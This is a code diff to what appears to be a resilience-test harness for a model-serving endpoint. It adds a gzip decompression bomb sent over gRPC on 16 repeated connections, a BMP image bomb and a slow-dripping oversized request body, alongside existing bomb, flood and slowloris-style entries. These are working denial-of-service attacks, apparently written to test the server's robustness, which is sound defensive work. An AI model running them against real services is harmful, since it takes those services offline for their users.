@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import gzip
 import http.client
 import json
 import socket
@@ -133,6 +134,21 @@ def drip_messages(target: Target) -> None:
         call.close()
 
 
+def send_packed(target: Target, size: int) -> None:
+    """Sends a message over gRPC that unpacks to so many bytes, on 16 connections again and again."""
+    message = gzip.compress(content.zeros_message(size), 1)
+
+    def send() -> None:
+        with (
+            contextlib.suppress(OSError),
+            contextlib.closing(SlowCall(target.grpc, PREDICT, len(message), "gzip")) as call,
+        ):
+            call.send(message)
+            call.wait(60)
+
+    target.flood(send, 16)
+
+
 def _json(part: bytes, size: int = 6_000_000, last: bytes = b"") -> bytes:
     """A body of equal rows."""
     return b'{"instances": [' + part * (size // len(part)) + (last or part.rstrip(b",")) + b"]}"
@@ -148,6 +164,7 @@ ATTACKS: dict[str, Callable[[Target], Any]] = {
     "WebP bomb": lambda target: target.posts("images", row(content.WEBP)),
     "PNG bomb": lambda target: target.posts("images", row(content.png(9900)), 6),
     "GIF bomb": lambda target: target.posts("images", row(content.gif(40_000))),
+    "BMP bomb": lambda target: target.posts("images", row(content.bmp(40_000))),
     "JPEG bomb": lambda target: target.posts("images", row(content.jpeg(20_000)), 4),
     "WAV bomb": lambda target: target.posts("recordings", row(content.wav(100, 2**31 - 2)), 4),
     "gzip, three of 56 KB": lambda target: target.posts("numbers", content.packed(b"[],", 57_000_000), 3, "gzip"),
@@ -155,6 +172,7 @@ ATTACKS: dict[str, Callable[[Target], Any]] = {
     "unknown pages": lambda target: target.flood(lambda: target.send(b"GET /x HTTP/1.0\r\n\r\n")),
     "broken heads": lambda target: target.flood(lambda: target.send(b"POST\r\n\r\n")),
     "announced lengths": lambda target: target.hold(200, _HEAD + b"Content-Length: 100000000\r\n\r\n{"),
+    "bodies that drip": lambda target: target.hold(100, _HEAD + b"Content-Length: 120000000\r\n\r\n", bytes(1 << 18)),
     "slow heads": lambda target: target.hold(300, _HEAD, b"X: y\r\n"),
     "idle connections": lambda target: target.hold(1500, b""),
     "quick, then slow": send_quick_then_slow,
@@ -169,6 +187,8 @@ ATTACKS: dict[str, Callable[[Target], Any]] = {
     "gRPC, unknown models": lambda target: target.call(PREDICT, b"\x0a\x03\x0a\x01x", 8),
     "gRPC, unknown methods": lambda target: target.call("/x/Y", b"", 8),
     "gRPC, messages that drip": drip_messages,
+    "gRPC, gzip of 120 MB": lambda target: send_packed(target, 120 * _MIB),
+    "gRPC, gzip of 1 GB": lambda target: send_packed(target, 1024 * _MIB),
 }
 
 
